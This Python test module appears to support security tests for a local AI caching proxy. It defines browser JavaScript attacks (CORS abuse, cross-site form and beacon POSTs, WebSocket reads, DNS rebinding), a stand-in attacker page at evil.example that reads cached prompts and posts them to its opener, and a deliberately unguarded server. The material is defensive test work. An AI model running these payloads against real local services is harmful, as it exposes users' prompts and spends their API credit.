"""What a web page can try against a server on the machine of its visitor, and a server that lets it all happen.

Each attack is a piece of JavaScript. It runs in the page, knows `proxy` and `page` (addresses of the victim) and `CHAT`
(the body of a call whose answer is in the cache), and returns what it could read.
"""

from __future__ import annotations

import base64
import hashlib
import json
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Protocol

MARK = "a prompt that no page may read"
CHAT = json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": MARK}]})
BASED = "/https://api.openai.com/v1/chat/completions"
EVIL = "/http://evil.example/a.html"
"""A base URL, to a page of the attacker."""

PAGE_OF_THE_ATTACKER = """<!doctype html><title>evil</title><body><script>
const CHAT = @CHAT, BASED = @BASED;
(async () => {
  let got = "";
  for (const path of ["/entries", "/", "/metrics", "/ai-cache/status"])
    try { got += await (await fetch(path, {headers: {"X-AI-Cache": "1"}})).text(); } catch (error) {}
  try {
    await fetch("/ai-cache/scope", {method: "POST", headers: {"X-AI-Cache": "1"}, body: '{"namespace": "taken"}'});
  } catch (error) {}
  try { got += await (await fetch(BASED, {method: "POST", body: CHAT})).text(); } catch (error) {}
  for (const other of [window.opener, window.parent]) if (other && other !== window) other.postMessage(got, "*");
})();
</script>""".replace("@CHAT", json.dumps(CHAT)).replace("@BASED", json.dumps(BASED))
"""Runs in the origin of the victim, where its base URLs serve anybody."""

_LIBRARY = """
const [proxy, page] = arguments, done = arguments[arguments.length - 1];
const CHAT = @CHAT, BASED = @BASED, EVIL = @EVIL, READ = ["/entries", "/", "/metrics", "/ai-cache/status"];
const later = milliseconds => new Promise(go => setTimeout(go, milliseconds, ""));
const loads = element => new Promise(go => { element.onload = element.onerror = () => go(""); });
const told = () => new Promise(go => addEventListener("message", event => go(String(event.data)), {once: true}));
const text = async (url, options) => {
  try { return await (await fetch(url, options)).text(); } catch (error) { return ""; }
};
const put = (tag, properties, where) => {
  const element = Object.assign(document.createElement(tag), properties);
  const over = loads(element);
  (where || document.body).append(element);
  return Promise.race([over, later(2000)]);
};
const form = async (url, fields, kind) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
  document.body.append(frame);
  const where = {method: "POST", action: url, enctype: kind, target: frame.name};
  const sent = Object.assign(document.createElement("form"), where);
  for (const [name, value] of Object.entries(fields))
    sent.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(sent);
  const over = loads(frame);
  sent.submit();
  await Promise.race([over, later(2000)]);
};
(async () => { @SCRIPT })().then(got => done(String(got || "")), error => done("error: " + error));
"""


def runnable(script: str) -> str:
    """`script` with what attacks use, for `execute_async_script` with the two addresses of the victim."""
    whole = _LIBRARY
    for name, value in (("@CHAT", CHAT), ("@BASED", BASED), ("@EVIL", EVIL)):
        whole = whole.replace(name, json.dumps(value))
    return whole.replace("@SCRIPT", script)


@dataclass(frozen=True)
class Attack:
    name: str
    script: str
    reads: bool = False
    """It reads entries where nothing is guarded."""
    controls: bool = False
    """It runs control calls or removes entries."""
    buys: bool = False
    """It makes calls to a provider."""


ATTACKS = [
    Attack(
        "fetch with CORS",
        """let got = "";
        for (const at of [proxy, page]) for (const path of READ) got += await text(at + path);
        return got""",
        reads=True,
    ),
    Attack(
        "fetch with CORS and credentials",
        """const options = {credentials: "include"};
        return await text(page + "/entries", options) + await text(proxy + "/", options)""",
        reads=True,
    ),
    Attack(
        "fetch with the header of control calls",
        """const options = {headers: {"X-AI-Cache": "1"}};
        const got = await text(proxy + "/ai-cache/status", options);
        await text(proxy + "/ai-cache/scope", {method: "POST", body: '{"namespace": "taken"}', ...options});
        return got""",
        reads=True,
        controls=True,
    ),
    Attack(
        "fetch of a base URL",
        'return await text(proxy + BASED, {method: "POST", body: CHAT, headers: {"content-type": "application/json"}})',
        reads=True,
        buys=True,
    ),
    Attack(
        "fetch without CORS",
        """const options = {mode: "no-cors", credentials: "include"};
        let got = "";
        for (const path of READ) got += await text(page + path, options) + await text(proxy + path, options);
        await text(proxy + BASED, {method: "POST", body: CHAT + " ", ...options});
        await text(page + "/purge", {method: "POST", body: new URLSearchParams({what: "all"}), ...options});
        return got""",
        controls=True,
        buys=True,
    ),
    Attack(
        "keepalive and beacon",
        """navigator.sendBeacon(proxy + BASED, CHAT + "  ");
        navigator.sendBeacon(page + "/purge", new URLSearchParams({what: "all"}));
        await later(700)""",
        controls=True,
        buys=True,
    ),
    Attack(
        "form, sent as JSON in text/plain",
        """const [before, after] = [CHAT.slice(0, -1) + ', "x": "', '"}'];
        await form(proxy + BASED, {[before]: after}, "text/plain");
        await form(proxy + "/ai-cache/scope", {'{"namespace": "taken", "x": "': '"}'}, "text/plain")""",
        controls=True,
        buys=True,
    ),
    Attack(
        "form",
        """for (const at of [page, proxy]) for (const path of ["/purge", "/entries/0/delete", "/ai-cache/scope"])
            await form(at + path, {what: "all", value: "*", token: ""}, "application/x-www-form-urlencoded");
        await form(proxy + BASED, {a: "b"}, "multipart/form-data")""",
        controls=True,
        buys=True,
    ),
    Attack(
        "frame with a page by base URL",
        """const heard = told();
        await put("iframe", {src: proxy + EVIL});
        return await Promise.race([heard, later(800)])""",
        reads=True,
        controls=True,
        buys=True,
    ),
    Attack(
        "window with a page by base URL",
        """const heard = told(), opened = window.open(proxy + EVIL);
        const got = await Promise.race([heard, later(1500)]);
        if (opened) opened.close();
        return got""",
        reads=True,
        controls=True,
        buys=True,
    ),
    Attack(
        "pictures, scripts, styles, objects",
        """const models = proxy + "/https://api.openai.com/v1/models";
        await Promise.all([
          put("img", {src: models + "?1"}),
          put("script", {src: models + "?2"}, document.head),
          put("link", {rel: "stylesheet", href: models + "?3"}, document.head),
          put("object", {data: models + "?4"}),
          put("video", {src: models + "?5", onloadeddata: null}),
          put("link", {rel: "prefetch", href: models + "?6"}, document.head),
          put("script", {src: models + "?7", type: "module"}, document.head),
          put("script", {src: page + "/entries"}, document.head),
          put("img", {src: page + "/entries", crossOrigin: "anonymous"}),
        ])""",
        buys=True,
    ),
    Attack(
        "WebSocket",
        """let got = "";
        for (const url of [proxy + "/ai-cache/status", page + "/live", proxy + "/https://api.openai.com/v1/realtime"])
          got += await Promise.race([later(1500), new Promise(go => {
            const socket = new WebSocket(url.replace("http:", "ws:"));
            socket.onmessage = event => go(String(event.data));
            socket.onclose = socket.onerror = () => go("");
          })]);
        return got""",
        reads=True,
        buys=True,
    ),
    Attack(
        "EventSource",
        """let got = "";
        for (const url of [page + "/live", proxy + "/https://api.openai.com/v1/models"])
          got += await Promise.race([later(1000), new Promise(go => {
            const source = new EventSource(url);
            source.onmessage = event => { source.close(); go(String(event.data)); };
            source.onerror = () => { source.close(); go(""); };
          })]);
        return got""",
        reads=True,
        buys=True,
    ),
]

REBOUND = Attack(
    "a rebound name",
    """let got = "";
    for (const path of READ) got += await text(path, {headers: {"X-AI-Cache": "1"}});
    await text("/ai-cache/scope", {method: "POST", headers: {"X-AI-Cache": "1"}, body: '{"namespace": "taken"}'});
    got += await text(BASED, {method: "POST", body: CHAT + "   "});
    await text("/purge", {method: "POST", body: new URLSearchParams({what: "all"})});
    return got""",
    reads=True,
    controls=True,
    buys=True,
)
"""The page's own name leads to the victim by now: all it asks is of its own origin."""


class _Quiet(ThreadingHTTPServer):
    def handle_error(self, request: object, client_address: object) -> None:
        """A browser leaves when it likes."""


class Web:
    """A web server of an attacker: an empty page at every path."""

    def __init__(self, server: type[BaseHTTPRequestHandler]) -> None:
        self._server = _Quiet(("127.0.0.1", 0), server)
        self._server.daemon_threads = True
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


NO_ORIGIN = "/sandboxed"
"""Where the page of `EmptyPage` says `Origin: null`."""


class EmptyPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"<!doctype html><title>a page</title><body>"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.send_header("connection", "close")
        if self.path == NO_ORIGIN:
            self.send_header("content-security-policy", "sandbox allow-scripts allow-forms allow-popups")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def log_message(self, *values: object) -> None:
        pass


@dataclass
class Counts:
    controls: int = 0
    buys: int = 0

    def see(self, method: str, path: str) -> None:
        if method != "OPTIONS":
            self.buys += path.startswith("/http")
            self.controls += method == "POST" and not path.startswith("/http")


class Fields(Protocol):
    def get(self, name: str, default: str = "", /) -> str | None: ...


def unguarded(path: str, headers: Fields) -> tuple[list[tuple[str, str]], bytes]:
    """The answer of a server that lets everybody read everything: its header fields and its body."""
    events = "event-stream" in (headers.get("accept", "") or "")
    body = PAGE_OF_THE_ATTACKER if path == EVIL else f"data: {MARK}\n\n" if events else MARK
    fields = [
        ("content-type", "text/event-stream" if events else "text/html"),
        ("access-control-allow-origin", headers.get("origin", "") or "*"),
        ("access-control-allow-credentials", "true"),
        ("access-control-allow-headers", headers.get("access-control-request-headers", "") or ""),
    ]
    return fields, body.encode()


class Unguarded(Web):
    """What a proxy with a status page, control calls and base URLs is without any guard."""

    def __init__(self) -> None:
        counts = self.counts = Counts()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                counts.see(self.command, self.path)
                if key := self.headers.get("sec-websocket-key"):
                    self._websocket(key)
                    return
                fields, body = unguarded(self.path, self.headers)
                self.send_response(200)
                for name, value in (*fields, ("content-length", str(len(body)))):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_OPTIONS = do_HEAD = _any

            def _websocket(self, key: str) -> None:
                magic = (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
                accept = base64.b64encode(hashlib.sha1(magic).digest()).decode()
                self.send_response(101)
                self.send_header("upgrade", "websocket")
                self.send_header("connection", "Upgrade")
                self.send_header("sec-websocket-accept", accept)
                self.end_headers()
                self.wfile.write(bytes([0x81, len(MARK)]) + MARK.encode())
                self.close_connection = True

            def log_message(self, *values: object) -> None:
                pass

        super().__init__(Handler)
